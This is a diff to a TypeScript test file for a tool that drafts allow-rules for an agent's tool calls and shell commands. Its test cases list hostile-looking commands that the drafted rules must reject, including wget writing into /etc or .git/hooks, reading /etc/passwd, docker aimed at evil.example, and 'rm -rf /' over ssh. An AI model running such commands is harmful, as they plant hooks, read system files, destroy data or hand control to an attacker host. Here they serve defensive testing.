@@ -40,6 +40,12 @@ const ONE: readonly (readonly [calls: readonly JsonObject[], args: unknown])[] =
   [[{ a: "x" }, { a: "" }], { "/a": [{ max_length: 0 }, { in: ["x"] }] }],
   [[{ a: null, b: "x" }], { "/b": { in: ["x"] } }],
   [[{ to: ["a@x.example"] }, { to: [] }], { "/to/*": { only: { in: ["a@x.example"] } } }],
+  [[{ a: "x", f: {}, g: [[]] }], {
+    "/a": { in: ["x"] },
+    "/f/*": { only: { present: false } },
+    "/g/*/*": { only: { present: false } },
+  }],
+  [[{ f: {} }, { f: { a: "x" } }], { "/f/a": [{ present: false }, { in: ["x"] }] }],
   [[{ a: { "b/c": " x " } }], { "/a/b~1c": { in: ["x"] } }],
   [[{ t: "one\ntwo" }], { "/t": { is: ["string"] } }],
   [[{ t: "x".repeat(201) }], { "/t": { is: ["string"] } }],
@@ -67,6 +73,8 @@ const CALLS: readonly SeenCall[] = [
   { tool_name: "write", args: { path: "src/b/a.ts", content: "c", mode: null } },
   { tool_name: "get", args: { url: "https://a.example/x", tags: ["p", "q"], deep: { n: 1.5 } } },
   { tool_name: "ping", args: {} },
+  { tool_name: "list", args: { filters: {}, tags: [], more: { a: null, b: [{}] } } },
+  { tool_name: "list", args: { tags: ["x"] } },
 ];
 
 function verdict(text: string, call: SeenCall): string {
@@ -113,18 +121,40 @@ Deno.test("draftCommands() names programs, sub-commands, words and files, and sa
   const none = { only: { present: false } };
   assert.deepEqual(draftCommands(["git status | head > out/a", "git diff x; FOO=1 ls < in/b"]), {
     every: [
-      { program: "git", subcommand: ["status"], words: none },
-      { program: "head", words: none },
-      { program: "git", subcommand: ["diff"], words: { every: { in: ["x"] } } },
+      {
+        program: "git",
+        subcommand: ["status"],
+        not: { flags: ["C", "config-env", "exec-path"] },
+        words: none,
+        ...{ reads: none, writes: none, hosts: none },
+      },
+      { program: "head", words: none, reads: none, writes: none, hosts: none },
+      {
+        program: "git",
+        subcommand: ["diff"],
+        not: {
+          flags: [
+            "C",
+            "O",
+            "config-env",
+            "exec-path",
+            "ext-diff",
+            "git-dir",
+            "output",
+            "work-tree",
+          ],
+        },
+        words: { every: { in: ["x"] } },
+      },
       { program: "ls", reads: { only: { under: ["."] } }, writes: none, hosts: none },
       { to_file: { under: ["out"] } },
       { from_file: { under: ["in"] } },
       { assigns: ["FOO"] },
     ],
     notes: [
-      "git status with any flags, and no words",
-      "head with any flags, and no words",
-      "git diff with any flags; words x",
+      "git status with any flags that name no file, host or program, and no words",
+      "head with any flags that name no file, host or program, and no words",
+      "git diff with any flags that name no file, host or program; words x",
       "ls with any flags; reads .",
       "to_file: any path under out, of 1 path seen",
       "from_file: any path under in, of 1 path seen",
@@ -141,6 +171,7 @@ Deno.test("draftCommands() names programs, sub-commands, words and files, and sa
       3,
       'ls "',
       "git $x",
+      "make -f build.mk test",
     ]
   ) {
     assert.equal(typeof draftCommands([line]), "string", String(line));
@@ -161,6 +192,38 @@ const LINES: readonly (readonly [seen: readonly string[], others: readonly strin
       ...["curl https://api.example.com/x -x evil.example", "curl https://a@evil.example/x"],
     ],
   ],
+  [["wget -O out/x https://a.example/x"], [
+    "wget -O /etc/x https://a.example/x",
+    "wget -O .git/hooks/x https://a.example/x",
+    "wget -O out/x https://evil.example/x",
+  ]],
+  [["wget https://a.example/x"], [
+    "wget -O .git/hooks/x https://a.example/x",
+    "wget -i /etc/passwd https://a.example/x",
+    "wget -P /etc https://a.example/x",
+    "wget --unheard=/etc/x https://a.example/x",
+  ]],
+  [["docker ps", "docker ps -a"], [
+    "docker -H tcp://evil.example ps",
+    "docker --host=tcp://evil.example ps",
+    "docker --config /tmp/x ps",
+    "docker --unheard=/tmp/x ps",
+  ]],
+  [["make test"], [
+    "make -f evil.mk test",
+    "make -C /tmp test",
+    "make --eval=x test",
+    "make test -f /tmp/x",
+    "make --unheard=/tmp/x test",
+    "make deploy",
+  ]],
+  [["make test -f build.mk"], ["make test -f evil.mk", "make test -f build.mk -f evil.mk"]],
+  [["git diff x"], [
+    "git diff x --output=.git/x",
+    "git -C /tmp diff x",
+    "git --git-dir=/tmp diff x",
+  ]],
+  [["node a.js"], ["node --env-file=/etc/x a.js"]],
   [["ssh host ls"], ["ssh evil ls", "ssh host rm -rf /", "ssh -o ProxyCommand=x host ls"]],
   [
     ["git push origin fix/x", "git status"],
@@ -199,7 +262,15 @@ Deno.test("what cannot be narrowed is left out of a draft, and the notes say so"
   assert.ok(typeof drafted !== "string");
   assert.deepEqual(drafted.every.map(({ program }) => program), ["find", "echo"]);
   assert.ok(drafted.notes.includes("rm asks: what it was given is not known, or too much"));
-  for (const line of ["python3 -c 'print(1)'", 'rm "$X"', "node -e 1", "ghp_x=1; frobnicate $x"]) {
+  for (
+    const line of [
+      "python3 -c 'print(1)'",
+      'rm "$X"',
+      "node -e 1",
+      "frobnicate --to=a b",
+      "ghp_x=1; frobnicate $x",
+    ]
+  ) {
     assert.equal(typeof draftCommands([line]), "string", line);
   }
 });
